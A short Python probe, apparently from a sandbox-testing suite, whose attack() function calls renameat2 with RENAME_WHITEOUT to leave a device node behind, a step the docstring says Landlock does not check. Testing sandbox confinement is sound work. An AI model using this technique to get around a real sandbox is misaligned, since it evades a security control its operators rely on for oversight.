"""Rename a file so that the kernel leaves a device node in its place, which Landlock does not ask about."""

import ctypes
import os

RENAMEAT2, RENAME_WHITEOUT, AT_FDCWD = {"x86_64": 316, "aarch64": 276}[os.uname().machine], 4, -100


def attack():
    try:
        open("moved", "w").close()
    except OSError:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(ctypes.c_long(RENAMEAT2), AT_FDCWD, b"moved", AT_FDCWD, b"moved2", RENAME_WHITEOUT) == 0:
        return f"a renaming left {os.stat('moved')} behind"
